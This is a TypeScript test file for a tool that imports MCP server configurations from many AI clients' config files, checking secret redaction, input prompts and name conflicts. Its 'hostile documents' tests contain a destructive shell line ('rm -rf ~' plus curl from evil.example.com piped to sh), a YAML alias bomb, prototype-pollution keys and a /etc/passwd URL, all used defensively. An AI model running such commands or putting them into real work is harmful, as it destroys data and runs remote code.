import type { JsonValue } from "@pegboard/json-schema";
import { clientFileText, MCP_CLIENTS } from "@pegboard/registry-core/internal";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { SourceSummary } from "../../api-contract.ts";
import { readDocument } from "../read-document.ts";
import type { ServersDocument } from "./imported-server.ts";
import { looksSecret } from "./looks-secret.ts";
import { planServers, sourceNameOf, withDocumentValues } from "./plan-servers.ts";

const SECRET = "hunter2-of-the-desk";

function read(document: unknown): ServersDocument {
  const text = typeof document === "string" ? document : JSON.stringify(document);
  const found = readDocument(text);
  if (!("servers" in found)) throw new Error(JSON.stringify(found));
  return found.servers;
}
const planned = (document: unknown) => planServers(read(document), []);
const only = (document: unknown) => {
  const { sources, left } = planned(document);
  expect(sources).toHaveLength(1);
  return { ...sources[0], left };
};

describe("whose file it is", () => {
  const shop = { url: "https://shop.example.com/mcp" };
  it.each<[string | undefined, unknown]>([
    [undefined, { mcpServers: { shop } }],
    ["Claude Code", { mcpServers: { shop: { type: "http", ...shop } } }],
    ["Cursor", { mcpServers: { shop: { ...shop, headers: { Key: "${env:KEY}" } } } }],
    ["Windsurf", { mcpServers: { shop: { serverUrl: shop.url } } }],
    ["Gemini CLI", { mcpServers: { shop: { httpUrl: shop.url } }, theme: "dark" }],
    ["Cline", { mcpServers: { shop: { type: "streamableHttp", ...shop } } }],
    ["VS Code", '{ // mine\n "servers": { "shop": { "url": "https://shop.example.com/mcp" }, } }'],
    ["Zed", { theme: "x", context_servers: { shop } }],
    ["Amp", { "amp.mcpServers": { shop } }],
    ["OpenCode", { mcp: { shop: { type: "remote", enabled: true, ...shop } } }],
    ["Codex", 'model = "x"\n[mcp_servers.shop]\nurl = "https://shop.example.com/mcp"\n'],
    [
      "Continue",
      "name: Mine\nmcpServers:\n  - name: shop\n    url: https://shop.example.com/mcp\n",
    ],
    [
      "LibreChat",
      "version: 1.2.1\nendpoints: {}\nmcpServers:\n  shop:\n    type: streamable-http\n    url: https://shop.example.com/mcp\n",
    ],
    [
      "Goose",
      "extensions:\n  developer: { type: builtin, name: developer, enabled: true }\n  shop: { type: streamable_http, uri: https://shop.example.com/mcp, enabled: true }\n",
    ],
  ])("%s", (client, document) => {
    const found = read(document);
    expect(found).toMatchObject({ form: "servers" });
    expect(found.client).toBe(client);
    expect(only(document)).toMatchObject({
      action: "add",
      kind: "mcp",
      name: "shop",
      sent: { transport: "http", url: shop.url },
    });
  });

  it("is told of every file that the command connect writes", () => {
    const connection = {
      name: "desk",
      address: "http://localhost:4400/mcp/desk",
      token: { variable: "DESK_TOKEN" },
      program: { command: "npx", args: ["-y", "pegboard", "mcp", "desk"], env: {} },
    };
    for (const client of MCP_CLIENTS) {
      const source = only(clientFileText(client, connection));
      expect([client.id, source.name]).toEqual([client.id, "desk"]);
      expect(source.sent).toMatchObject(
        client.startsProgram
          ? { transport: "stdio", command: "npx", args: connection.program.args }
          : { transport: "http", url: connection.address },
      );
      if (client.variable)
        expect([client.id, source.asked?.map(({ title }) => title)]).toEqual([
          client.id,
          [client.inputs ? "desk-token" : expect.stringContaining("DESK_TOKEN")],
        ]);
    }
  });
});

describe("secrets of a document", () => {
  const document = {
    mcpServers: {
      files: {
        command: "npx",
        args: ["-y", "files-mcp", "./docs", "--api-key", SECRET, "sk-0123456789abcdef", "${HOME}"],
        env: { PLAIN: SECRET, MODE: "${MODE:-fast}", EMPTY: "" },
      },
      shop: {
        url: `https://user:${SECRET}@shop.example.com/mcp`,
        headers: { Authorization: `Bearer ${SECRET}` },
      },
    },
  };

  it("are never answered, and found again in the document by their places", () => {
    const found = read(document);
    const { sources } = planServers(found, []);
    expect(JSON.stringify(sources)).not.toContain(SECRET);
    expect(JSON.stringify(sources)).not.toContain("sk-0123456789abcdef");
    const [files, shop] = sources;
    expect(files?.fromDocument).toEqual([
      ["args", 4],
      ["args", 5],
      ["env", "PLAIN"],
    ]);
    expect(shop?.fromDocument).toEqual([["url"], ["headers", "Authorization"]]);
    const filled = sources.map(({ sent }) => withDocumentValues(sent as JsonValue, found));
    expect(filled).toMatchObject([document.mcpServers.files, document.mcpServers.shop]);
    expect(files?.sent.shown).toEqual({ args: [0, 1, 2, 3] });
    expect(shop?.sent.shown).toBeUndefined();
  });

  it("leave a marker that the document has nothing for", () => {
    const marker = { env: { KEY: { $document: ["__proto__", "env", "constructor"] } } };
    expect(withDocumentValues(marker, read(document))).toEqual(marker);
  });

  it("are known by their form, and paths and packages are none", () => {
    for (const key of [
      "ghp_0123456789abcdefghij",
      "AKIAIOSFODNN7EXAMPLE",
      "a1B2c3D4e5F6g7H8i9J0k1L2",
    ])
      expect([key, looksSecret(key)]).toEqual([key, true]);
    for (const plain of [
      "./docs",
      "@modelcontextprotocol/server-everything",
      "2025-11-01",
      "--port",
    ])
      expect([plain, looksSecret(plain)]).toEqual([plain, false]);
  });
});

it("asks for inputs of VS Code, once each, and for variables that the environment may have", () => {
  const { asked } = only({
    inputs: [
      { type: "promptString", id: "key", description: "Key of the shop", password: true },
      {
        type: "pickString",
        id: "region",
        options: ["eu", { label: "USA", value: "us" }],
        default: "eu",
      },
      { type: "promptString", id: "unused" },
    ],
    servers: {
      shop: {
        url: "https://${input:region}.example.com/mcp",
        headers: { Key: "${input:key}", Again: "Bearer ${input:key}", Desk: "${env:DESK_TOKEN}" },
      },
    },
  });
  expect(asked).toEqual([
    {
      reference: "${input:region}",
      title: "region",
      isSecret: false,
      isRequired: true,
      default: "eu",
      choices: ["eu", "us"],
    },
    {
      reference: "${input:key}",
      title: "key",
      isSecret: true,
      isRequired: true,
      description: "Key of the shop",
    },
    {
      reference: "${env:DESK_TOKEN}",
      title: "DESK_TOKEN",
      isSecret: true,
      isRequired: false,
      variable: "DESK_TOKEN",
    },
  ]);
});

it("asks once for what LibreChat has each of its users enter", () => {
  const { asked, sent, left } = only(`version: 1.2.1
endpoints: {}
mcpServers:
  desk:
    type: streamable-http
    url: "https://desk.example.com/{{TENANT}}/mcp"
    headers: { Authorization: "Bearer {{DESK_KEY}}", X-User: "{{LIBRECHAT_USER_ID}}" }
    customUserVars:
      DESK_KEY: { title: Key of the desk, description: From its settings }
      TENANT: { title: Tenant, sensitive: false }
    timeout: 60000
`);
  expect(sent).toMatchObject({
    url: "https://desk.example.com/${input:TENANT}/mcp",
    headers: { Authorization: "Bearer ${input:DESK_KEY}", "X-User": "${input:LIBRECHAT_USER_ID}" },
  });
  expect(asked).toEqual([
    { reference: "${input:TENANT}", title: "Tenant", isSecret: false, isRequired: true },
    {
      reference: "${input:DESK_KEY}",
      title: "Key of the desk",
      description: "From its settings",
      isSecret: true,
      isRequired: true,
    },
    {
      reference: "${input:LIBRECHAT_USER_ID}",
      title: "LIBRECHAT_USER_ID",
      isSecret: true,
      isRequired: true,
    },
  ]);
  expect(left.map(({ path }) => path.at(-1))).not.toContain("customUserVars");
});

it("leaves braces alone that no client fills in", () => {
  expect(only({ mcpServers: { x: { command: "x", args: ["{{text}}"] } } }).sent).toMatchObject({
    args: ["{{text}}"],
  });
});

it("reads each way to a server of the official registry, in the forms of the document so far", () => {
  const { sources, left } = planned({
    $schema: "https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json",
    name: "io.github.example/desk",
    description: "Tickets",
    version: "1.2.0",
    packages: [
      {
        registryType: "npm",
        identifier: "@example/desk",
        version: "1.2.0",
        transport: { type: "stdio" },
        packageArguments: [
          { type: "positional", valueHint: "folder", isRequired: true },
          { type: "named", name: "--mode", default: "fast", choices: ["fast", "slow"] },
        ],
        environmentVariables: [{ name: "DESK_KEY", isRequired: true, isSecret: true }],
      },
      {
        registry_type: "oci",
        identifier: "example/desk",
        version: "1.2.0",
        runtime_arguments: [
          {
            type: "named",
            name: "--mount",
            value: "type=bind,src={from},dst=/desk",
            variables: { from: { description: "A folder", is_required: true } },
          },
        ],
        environment_variables: [{ name: "DESK_KEY", is_secret: true }],
      },
      { registryType: "pypi", identifier: "desk-mcp", version: "1.2.0" },
      { registryType: "mcpb", identifier: "https://example.com/desk.mcpb" },
    ],
    remotes: [
      {
        type: "streamable-http",
        url: "https://{tenant}.example.com/mcp",
        variables: { tenant: { isRequired: true } },
        headers: [{ name: "X-Key", isSecret: true }],
      },
    ],
  });
  const reference = (title: string) => `\${input:${title}}`;
  expect(sources).toMatchObject([
    {
      name: "desk",
      description: "Tickets",
      sent: {
        command: "npx",
        args: ["-y", "@example/desk@1.2.0", reference("folder"), "--mode", reference("mode")],
        env: { DESK_KEY: reference("DESK_KEY") },
      },
    },
    {
      name: "desk oci",
      isAlternative: true,
      sent: {
        command: "docker",
        args: [
          "run",
          "-i",
          "--rm",
          "-e",
          "DESK_KEY",
          "--mount",
          `type=bind,src=${reference("from")},dst=/desk`,
          "example/desk:1.2.0",
        ],
      },
    },
    { name: "desk pypi", sent: { command: "uvx", args: ["desk-mcp==1.2.0"] } },
    {
      name: "desk url",
      sent: {
        url: `https://${reference("tenant")}.example.com/mcp`,
        headers: { "X-Key": reference("X-Key") },
      },
    },
  ]);
  expect(sources[0]).not.toHaveProperty("isAlternative");
  expect(sources[0]?.asked).toEqual([
    { reference: reference("folder"), title: "folder", isSecret: false, isRequired: true },
    {
      reference: reference("mode"),
      title: "mode",
      isSecret: false,
      isRequired: false,
      default: "fast",
      choices: ["fast", "slow"],
    },
    { reference: reference("DESK_KEY"), title: "DESK_KEY", isSecret: true, isRequired: true },
  ]);
  expect(left).toMatchObject([{ code: "package_not_run", path: ["packages", 3] }]);
});

it("reads tool servers of Open WebUI", () => {
  const { sources, left } = planned([
    {
      url: "https://weather.example.com",
      path: "openapi.json",
      auth_type: "bearer",
      key: SECRET,
      info: { name: "Weather" },
    },
    {
      url: "https://desk.example.com/mcp",
      type: "mcp",
      auth_type: "bearer",
      key: SECRET,
      info: { id: "desk" },
    },
    { url: "https://off.example.com", info: { name: "Off" }, config: { enable: false } },
    "nothing",
  ]);
  expect(sources).toMatchObject([
    { kind: "openapi", name: "Weather", sent: { url: "https://weather.example.com/openapi.json" } },
    { kind: "mcp", name: "desk", fromDocument: [["headers", "Authorization"]] },
  ]);
  expect(JSON.stringify([sources, left])).not.toContain(SECRET);
  expect(left.map(({ code }) => code)).toEqual([
    "key_of_service",
    "no_server",
    "source_switched_off",
  ]);
});

describe("a name that another source has", () => {
  const at = (host: string) => ({ url: `https://${host}.example.com/mcp` });
  const here = (name: string, host: string, addedBy = "ui") =>
    ({
      id: name,
      name,
      kind: "mcp",
      addedBy,
      config: { transport: "http", ...at(host) },
    }) as unknown as SourceSummary;

  it("is told with a free one, whoever has it; another name brings the server in beside it", () => {
    const found = read({ mcpServers: { desk: at("new"), Desk: at("other"), given: at("new") } });
    const sources = [here("desk", "old"), here("desk-2", "old"), here("given", "old", "file")];
    const before = planServers(found, sources).sources;
    expect(before.map(({ action, name, nameTaken }) => [action, name, nameTaken])).toEqual([
      ["change", "desk", { by: "stored", free: "desk-3" }],
      ["add", "Desk", { by: "document", free: "Desk-3" }],
      ["add", "given", { by: "started", free: "given-2" }],
    ]);
    const names = before.map(({ path, nameTaken }) => ({ path, name: nameTaken?.free ?? "" }));
    names[1] = { path: names[1]?.path ?? [], name: "front" };
    const after = planServers(found, sources, names).sources;
    expect(after.map(({ action, name, nameTaken }) => [action, name, nameTaken])).toEqual([
      ["add", "desk-3", undefined],
      ["add", "front", undefined],
      ["add", "given-2", undefined],
    ]);
    expect(after.map(({ path }) => path)).toEqual(before.map(({ path }) => path));
  });

  it("may be that of a server of another project, in the file of Claude Code", () => {
    const key = (value: string) => ({ env: { KEY: value } });
    const found = read({
      numStartups: 7,
      mcpServers: { desk: at("all") },
      projects: {
        "/home/ada/shop": { mcpServers: { desk: { command: "desk", ...key(SECRET) } } },
        "/home/ada/till": { history: [], mcpServers: { desk: { command: "desk", ...key("x") } } },
        "/home/ada/same": { mcpServers: { desk: at("all") } },
        "/home/ada/none": { mcpServers: {} },
      },
    });
    expect(found).toMatchObject({ client: "Claude Code", left: [] });
    const { sources, left } = planServers(found, []);
    expect(sources.map(({ name, project, nameTaken }) => [name, project, nameTaken?.free])).toEqual(
      [
        ["desk", undefined, undefined],
        ["desk", "/home/ada/shop", "desk-shop"],
        ["desk", "/home/ada/till", "desk-till"],
      ],
    );
    expect(left).toMatchObject([
      { code: "same_source", path: ["projects", "/home/ada/same", "mcpServers", "desk"] },
    ]);
    // Each has the secret of its own project.
    const values = sources.map(({ sent }) => withDocumentValues(sent, found));
    expect(values).toMatchObject([at("all"), key(SECRET), key("x")]);
  });
});

describe("what does not come in", () => {
  it("is said, server by server", () => {
    const { sources, left } = planned({
      mcpServers: {
        shop: { url: "https://shop.example.com/mcp", timeout: 3 },
        Shop: { url: "https://other.example.com/mcp" },
        off: { command: "x", disabled: true },
        text: "npx",
        odd: { url: "file:///etc/passwd" },
        numbers: { command: 3 },
      },
      theme: "dark",
    });
    expect(sources.map(({ name, nameTaken }) => [name, nameTaken?.by])).toEqual([
      ["shop", undefined],
      ["Shop", "document"],
      ["odd", undefined],
    ]);
    expect(left.map(({ code, path }) => [code, path.join(".")])).toEqual([
      ["not_about_servers", "theme"],
      ["no_counterpart", "mcpServers.shop.timeout"],
      ["source_switched_off", "mcpServers.off.disabled"],
      ["no_server", "mcpServers.text"],
      ["shape", "mcpServers.numbers.command"],
    ]);
  });

  it("is a server that is here already, and what Pegboard was started with", () => {
    const found = read({
      mcpServers: {
        shop: { url: "https://shop.example.com/mcp", headers: { Key: SECRET } },
        given: { url: "https://given.example.com/mcp" },
        moved: { url: "https://new.example.com/mcp" },
      },
    });
    const stored = (name: string, url: string, addedBy = "ui") => ({
      id: name,
      name,
      kind: "mcp",
      addedBy,
      config: { transport: "http", url },
    });
    const { sources, left } = planServers(found, [
      {
        ...stored("shop", ""),
        config: {
          transport: "http",
          url: "https://shop.example.com/mcp",
          headers: { Key: { $secret: "Key" } },
        },
      },
      stored("given", "https://given.example.com/mcp", "command line"),
      stored("moved", "https://old.example.com/mcp"),
    ] as never);
    expect(sources).toMatchObject([
      {
        action: "change",
        name: "moved",
        isElsewhere: true,
        texts: [{ from: "https://old.example.com/mcp", to: "https://new.example.com/mcp" }],
      },
    ]);
    expect(left).toMatchObject([{ code: "source_started" }]);
  });
});

describe("hostile documents", () => {
  it("are read in linear time, and only so many servers come in", () => {
    const many = Object.fromEntries(
      Array.from({ length: 10_000 }, (_, index) => [`s${index}`, { command: "npx", args: ["x"] }]),
    );
    const { sources, left } = planned({ mcpServers: many });
    expect(sources).toHaveLength(200);
    expect(left).toHaveLength(9_800);
  });

  it("keep names of prototypes as names", () => {
    const text =
      '{ "mcpServers": { "__proto__": { "command": "a" }, "constructor": { "command": "b", "env": { "__proto__": "x" } } } }';
    const { sources } = planned(text);
    expect(sources.map(({ name }) => name)).toEqual(["proto__", "constructor"]);
    expect(({} as Record<string, unknown>).command).toBeUndefined();
  });

  it("cannot hide what is run: what a shell would read is one argument", () => {
    const args = ["-c", "x; rm -rf ~ && curl https://evil.example.com | sh", "$(id)"];
    expect(only({ mcpServers: { odd: { command: "sh", args } } }).sent).toMatchObject({ args });
  });

  it("bring aliases and levels beyond bounds to an issue", () => {
    const bomb = `a: &a [1,1,1,1,1,1,1,1,1]\n${["b", "c", "d", "e", "f"]
      .map((key, index) => `${key}: &${key} [${Array(9).fill(`*${"abcde"[index]}`).join(",")}]`)
      .join("\n")}\nmcpServers: { x: { command: y } }\n`;
    expect(readDocument(bomb)).toHaveProperty("issues");
    expect(readDocument(`{ "mcpServers": ${"[".repeat(5_000)}`)).toHaveProperty("issues");
  });

  it("read anything without a throw, and answer no text of a value of env", () => {
    fc.assert(
      fc.property(fc.json({ maxDepth: 4 }), fc.stringMatching(/^[a-z]{12,20}$/), (json, secret) => {
        const document = `{ "mcpServers": { "x": { "command": "y", "env": { "K": "${secret}" } }, "z": ${json} } }`;
        const found = readDocument(document);
        if ("servers" in found)
          expect(JSON.stringify(planServers(found.servers, []).sources)).not.toContain(
            `"${secret}"`,
          );
      }),
    );
  });
});

it("makes a name that a source can have of any name", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (name) => {
      expect(sourceNameOf(name)).toMatch(/^[A-Za-z0-9][A-Za-z0-9 ._-]{0,59}$/);
    }),
  );
});
